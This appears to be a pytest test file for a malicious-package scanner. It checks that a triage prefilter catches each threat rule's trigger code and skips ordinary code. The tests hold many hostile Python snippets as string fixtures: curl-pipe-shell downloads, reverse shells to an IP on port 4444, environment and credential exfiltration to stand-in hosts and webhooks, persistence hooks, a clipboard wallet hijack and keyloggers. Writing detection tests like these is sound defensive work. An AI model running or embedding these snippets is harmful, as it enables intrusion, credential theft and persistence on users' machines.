"""Triage: every threat rule's trigger holds a token, ordinary code mostly does not."""

from __future__ import annotations

from pathlib import Path

import pytest

from stockade.analysis import indicators
from stockade.analysis.model import Kind, Phase
from stockade.analysis.python import PythonAnalyzer, selection, strings
from stockade.analysis.python.rules import RULES
from stockade.analysis.triage import Triage
from tests.analysis.python.helpers import FIXTURES, WHERE, code, rules, sample, scan

RUNTIME, IMPORT, INSTALL = Phase.RUNTIME, Phase.IMPORT, Phase.INSTALL

ALWAYS_ANALYSED = {"py-pth-exec": ".pth files are always analysed in full"}
"""Threat rules that never fire on a file triage may leave out."""

TRIGGERS: dict[str, list[tuple[Phase, str]]] = {
    "py-exec-decoded": [
        (RUNTIME, 'import base64\nexec(base64.b64decode("cHJpbnQoJ2hlbGxvIHdvcmxkJyk="))\n'),
        (IMPORT, 'import zlib, marshal\nexec(marshal.loads(zlib.decompress(b"x\\x9c")))\n'),
        (
            RUNTIME,
            "import pickle, base64\n"
            'pickle.loads(base64.b64decode("gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="))\n',
        ),
        (RUNTIME, 'getattr(__builtins__, "ex" + "ec")(bytes.fromhex("7072696e74283129"))\n'),
        (
            RUNTIME,
            '__builtins__.__dict__["ev" + "al"](bytes.fromhex("7072696e742831323334353629"))\n',
        ),
        (
            IMPORT,
            'import urllib.request\nexec(urllib.request.urlopen("https://x.test/p").read())\n',
        ),
        (IMPORT, 'run = eval\nimport base64 as b\nrun(b.b64decode("MQ=="))\n'),
        (IMPORT, 'import types, marshal\ntypes.FunctionType(marshal.loads(b"\\xe3"), {})()\n'),
    ],
    "py-process-hidden": [
        (
            RUNTIME,
            'import subprocess\nsubprocess.Popen(["powershell", "-w", "hidden", "-c", "x"])\n',
        ),
        (IMPORT, 'import os\nos.system("nohup ./agent >/dev/null 2>&1 &")\n'),
        (INSTALL, 'from subprocess import Popen\nPopen(["./agent"], start_new_session=True)\n'),
    ],
    "py-shell-download-exec": [
        (RUNTIME, 'import os\nos.system("curl -s https://x.test/i.sh | sh")\n'),
        (
            RUNTIME,
            '__import__("os").system("wget -q https://x.test/a -O a && chmod +x a")\n',
        ),
        (IMPORT, 'getattr(__import__("o" + "s"), "sys" + "tem")("curl https://x.test/s | bash")\n'),
        (RUNTIME, 'import commands\ncommands.getoutput("curl https://x.test/s | sh")\n'),
    ],
    "py-reverse-shell": [
        (
            RUNTIME,
            "import socket, subprocess, os\ns = socket.socket()\n"
            's.connect(("45.61.136.22", 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\n'
            'subprocess.call(["/bin/sh", "-i"])\n',
        ),
        (RUNTIME, 'import os\nos.system("bash -i >& /dev/tcp/45.61.136.22/4444 0>&1")\n'),
    ],
    "py-exfil-endpoint": [
        (RUNTIME, 'URL = "https://discord.com/api/webhooks/000000/xxxx"\n'),
        (RUNTIME, 'HOOK = "HTTPS://DISCORDAPP.COM/api/webhooks/1/abc"\n'),
        (RUNTIME, 'BIN = "https://webhook.site/0000-1111"\n'),
        (RUNTIME, 'OOB = "x1y2z3.oast.fun"\n'),
        (IMPORT, 'C2 = "45.61.136.22:4444"\n'),
        (IMPORT, 'C2 = "http://45.61.136.22/upload"\n'),
        (IMPORT, 'PASTE = "https://pastebin.com/raw/abcd"\n'),
        (RUNTIME, 'BOT = "https://api.telegram.org/bot6000000:AAAA/sendMessage"\n'),
    ],
    "py-exfil-data": [
        (RUNTIME, 'import os, requests\nrequests.post("https://c.test", data=dict(os.environ))\n'),
        (
            IMPORT,
            'import os\nimport urllib.request as r\nr.urlopen("https://c.test?k=" + '
            'os.environ["AWS_SECRET_ACCESS_KEY"])\n',
        ),
        (
            RUNTIME,
            "import os\nfrom http.client import HTTPSConnection\n"
            'c = HTTPSConnection("c.test")\nc.request("POST", "/", body=str(dict(os.environ)))\n',
        ),
        (
            IMPORT,
            "import os, subprocess\n"
            'subprocess.run(["curl", "-d", str(dict(os.environ)), "https://c.test"])\n',
        ),
        (
            INSTALL,
            'import os, socket\ns = socket.create_connection(("c.test", 80))\n'
            "s.sendall(repr(os.environ).encode())\n",
        ),
    ],
    "py-credential-autorun": [
        (IMPORT, 'import os\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n'),
        (
            IMPORT,
            'from pathlib import Path\nc = (Path.home() / ".aws" / "credentials").read_text()\n',
        ),
        (
            INSTALL,
            "import os\nstate = open(os.path.join(os.getenv('LOCALAPPDATA'), 'Google', "
            "'Chrome', 'User Data', 'Local State')).read()\n",
        ),
        (IMPORT, 'import shutil\nshutil.copy("~/.config/Exodus/exodus.wallet/seed", "s")\n'),
    ],
    "py-drop-executable": [
        (
            IMPORT,
            "import urllib.request, os\n"
            'urllib.request.urlretrieve("https://x.test/a", "agent")\nos.chmod("agent", 0o755)\n',
        ),
        (
            RUNTIME,
            "import base64, subprocess\n"
            'open("x", "wb").write(base64.b64decode("TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAA=="))\n'
            'subprocess.call(["x"])\n',
        ),
    ],
    "py-persistence-autorun": [
        (IMPORT, 'import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("python3 -m x &")\n'),
        (
            IMPORT,
            "import winreg\nwinreg.SetValueEx(winreg.HKEY_CURRENT_USER, "
            'r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, 1, "x")\n',
        ),
        (
            INSTALL,
            "import os, shutil\nshutil.copy(__file__, os.path.join(os.getenv('APPDATA'), "
            "'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'u.pyw'))\n",
        ),
        (IMPORT, "import os\nos.system(\"(crontab -l; echo '* * * * * x') | crontab -\")\n"),
    ],
    "py-clipboard-hijack": [
        (
            IMPORT,
            "import re, pyperclip\nWALLET = re.compile(r'^0x[a-fA-F0-9]{40}$')\n"
            "if WALLET.match(pyperclip.paste()):\n    pyperclip.copy('0x' + '0' * 40)\n",
        ),
    ],
    "py-surveillance-autorun": [
        (IMPORT, "from pynput import keyboard\nkeyboard.Listener(on_press=print).start()\n"),
        (INSTALL, "from PIL import ImageGrab\nImageGrab.grab().save('s.png')\n"),
        (IMPORT, "import pyautogui\npyautogui.screenshot('s.png')\n"),
        (IMPORT, "import ctypes\nctypes.windll.user32.GetAsyncKeyState(1)\n"),
        (IMPORT, "import tkinter\ntext = tkinter.Tk().clipboard_get()\n"),
    ],
    "py-miner": [
        (RUNTIME, 'POOL = "stratum+tcp://pool.minexmr.test:4444"\n'),
        (RUNTIME, 'import subprocess\nsubprocess.Popen(["./XMRig", "--donate-level", "1"])\n'),
    ],
    "py-obfuscated-identifiers": [
        (RUNTIME, "".join(f"_0x{i:04x} = {i}\n" for i in range(12))),
        (RUNTIME, "".join(f"{'IlIl1I'[i % 3 :]}{'lI' * (i + 2)} = {i}\n" for i in range(12))),
    ],
    "py-packed-install": [
        (INSTALL, "from pytransform import pyarmor_runtime\npyarmor_runtime()\n"),
    ],
    "py-obfuscated-name": [
        (RUNTIME, 'getattr(__import__("o" + "s"), "sys" + "tem")("id")\n'),
        (RUNTIME, 'import base64\n__import__(base64.b64decode("b3M=").decode())\n'),
        (RUNTIME, 'import importlib\nimportlib.import_module("sub" + "process")\n'),
        (RUNTIME, 'globals()["ev" + "al"]("1")\n'),
    ],
}
"""For every threat rule, code that makes it fire (evasive spellings included)."""


def test_every_threat_rule_has_triggers() -> None:
    threats = {rule.id for rule in RULES if rule.kind is Kind.THREAT}
    assert set(TRIGGERS) | set(ALWAYS_ANALYSED) == threats


TRIGGER_CASES = [
    (rule, phase, source) for rule, cases in TRIGGERS.items() for phase, source in cases
]


@pytest.mark.parametrize(("rule", "phase", "source"), TRIGGER_CASES)
def test_trigger_fires_and_triage_keeps_it(rule: str, phase: Phase, source: str) -> None:
    findings = scan({WHERE[phase]: source})
    assert rule in rules(findings), [f.rule for f in findings]
    assert selection.triage(source.encode()).threat


def _call_code(symbol: str) -> list[str]:
    parts = symbol.replace("()", "").split(".")
    if parts[0] == "builtins":
        return [f"{parts[-1]}(x)\n"]
    module, name = ".".join(parts[:-1]), parts[-1]
    spelled = [f"import {parts[0]}\n{'.'.join(parts)}(x)\n"]
    if module:
        spelled.append(f"from {module} import {name}\n{name}(x)\n")
        spelled.append(f"from {module} import {name} as alias\nalias(x)\n")
    return spelled


TABLE_CASES = sorted(
    {case for table in selection.THREAT_TABLES for symbol in table for case in _call_code(symbol)}
)


@pytest.mark.parametrize("source", TABLE_CASES)
def test_every_call_the_threat_checks_look_for_is_a_token(source: str) -> None:
    assert selection.triage(source.encode()).threat, source


STRING_CASES = sorted(
    {f'p = "~/{fragment}"\n' for fragment in indicators.CREDENTIAL_PATHS}
    | {f'p = "C:\\\\Users\\\\u\\\\{fragment}"\n' for fragment in indicators.CREDENTIAL_PATHS}
    | {
        "p = os.path.join(home, " + ", ".join(repr(p) for p in fragment.split("/") if p) + ")\n"
        for fragment in [*indicators.CREDENTIAL_PATHS, *strings.PERSISTENCE_PATHS]
    }
    | {f'p = "~/{fragment}"\n' for fragment in strings.PERSISTENCE_PATHS}
    | {f'u = "https://a.{host}/x"\n' for host in indicators.EXFIL_HOST_SUFFIXES}
    | {f'u = "{host.upper()}"\n' for host in indicators.EXFIL_HOST_SUFFIXES}
    | {f'm = "{marker}"\n' for marker in indicators.MINING_MARKERS}
)


@pytest.mark.parametrize("source", STRING_CASES)
def test_every_string_the_threat_checks_look_for_is_a_token(source: str) -> None:
    assert selection.triage(source.encode()).threat, source


@pytest.mark.parametrize(
    "source",
    [
        "model.eval()\nresult = trainer.evaluate()\n",
        '"""The operating system is Linux."""\nrole = "system"\nx = platform.system()\n',
        "value = getattr(self, name)\nitem = getattr(obj, 'to_dict', None)\n",
        "from urllib.parse import urlparse\nfrom google.auth.transport import requests as r\n",
        'path = globals()["__file__"]\nnumpy = import_module("numpy")\n',
        "pattern = re.compile(r'x')\nexecutor.execute(query)\n",
        '"""Sends requests to the server and decodes the JSON reply."""\n',
        'VERSION = "1.2.3"\nLOCAL = "http://127.0.0.1:8080/"\n',
        "class System:\n    def system(self):\n        return self.system_name\n",
        "with open(path, 'w') as f:\n    f.write(data)\n",
    ],
)
def test_ordinary_code_is_not_kept(source: str) -> None:
    assert not selection.triage(source.encode()).threat


def test_strong_and_alarming_signs() -> None:
    assert selection.triage(b'HOOK = "https://webhook.site/x"').alarming
    assert selection.triage(b"import base64\nexec(base64.b64decode(P))").alarming
    runs_and_hides = selection.triage(b"import subprocess, urllib\nurllib.request.urlopen(u)")
    assert runs_and_hides.strong and not runs_and_hides.alarming
    assert selection.triage(b"def handle_webhook(event):\n    pass\n").strong
    plain = selection.triage(b"import requests\nrequests.get(url)\n")
    assert plain.threat and not plain.strong


def test_symbol_tokens() -> None:
    assert selection.symbol_token("os.system") == ("system", selection.Check.ATTR)
    assert selection.symbol_token("requests.get") == ("requests", selection.Check.IMPORT)
    assert selection.symbol_token("builtins.exec") == ("exec", selection.Check.CALL)
    assert "commands" in selection.module_spellings("subprocess")
    assert selection.fragment_token("Google/Chrome/User Data") == ("user data", False)
    assert selection.fragment_token(".ssh/id_rsa") == ("id_rsa", False)


# Samples ---------------------------------------------------------------------------------------

MALICIOUS = sorted(p for p in (FIXTURES / "malicious").iterdir() if p.is_dir())
SAMPLE_FILES = sorted(
    (folder, path)
    for folder in [*MALICIOUS, *(p for p in (FIXTURES / "benign").iterdir() if p.is_dir())]
    for path in folder.rglob("*.py")
)


@pytest.mark.parametrize("folder", MALICIOUS, ids=lambda p: p.name)
def test_malicious_samples_keep_their_threats_when_every_other_file_is_triaged(
    folder: Path,
) -> None:
    root = f"{folder.name}-0.0.1"
    expected = {f.rule for f in scan(sample(folder), root=root) if f.kind is Kind.THREAT}
    assert expected
    triaged = PythonAnalyzer(full_below=0)
    assert expected <= rules(scan(sample(folder), root=root, analyzer=triaged))
    # Past the budget, the files that hold the threats still show strong signs.
    strong_only = PythonAnalyzer(full_below=0, budget=0, strong_budget=10**9)
    assert expected <= rules(scan(sample(folder), root=root, analyzer=strong_only))


@pytest.mark.parametrize(
    ("folder", "path"), SAMPLE_FILES, ids=lambda p: p.name if isinstance(p, Path) else ""
)
def test_every_sample_file_with_a_threat_passes_triage(folder: Path, path: Path) -> None:
    data = path.read_bytes()
    relpath = str(path.relative_to(folder)).replace("\\", "/")
    for phase in (INSTALL, IMPORT):
        place = "setup.py" if phase is INSTALL else "pkg/__init__.py"
        files: dict[str, str | bytes] = {place: data}
        if relpath != place:
            files[relpath] = data
        findings = scan(files, install=(place,) if phase is INSTALL else ())
        if any(f.kind is Kind.THREAT for f in findings):
            assert selection.triage(data).threat, relpath


# The automaton -----------------------------------------------------------------------------------


def test_triage_finds_patterns() -> None:
    triage = Triage([b"exec(", b"Popen", b"exec("])
    assert triage.patterns == (b"exec(", b"Popen")
    assert triage.hits(b"x = 1\nexec(code)\n")
    assert not triage.hits(b"popen")
    assert triage.found(b"exec(a); Popen(b); exec(c)") == {b"exec(", b"Popen"}
    assert triage.positions(b"a exec(") == [(b"exec(", 2)]


def test_triage_ignores_case_when_asked() -> None:
    triage = Triage([b"Login Data"], ignore_case=True)
    assert triage.patterns == (b"login data",)
    assert triage.hits(b"path = 'LOGIN DATA'")
    assert not Triage([b"Login Data"]).hits(b"login data")


def test_triage_needs_a_pattern() -> None:
    with pytest.raises(ValueError, match="pattern"):
        Triage([b""])


def test_ordinary_helper_module_is_not_parsed_in_a_large_package() -> None:
    analyzer = PythonAnalyzer(full_below=0, budget=10**9)
    findings = scan(
        {
            "pkg/__init__.py": "from . import util\n",
            "pkg/util.py": code(
                """
                import os
                TOKEN = os.environ.get("API_TOKEN")
                """
            ),
        },
        analyzer=analyzer,
    )
    assert findings == []
    assert "py-secret-env" in rules(scan({"pkg/util.py": "import os\nos.getenv('API_TOKEN')\n"}))
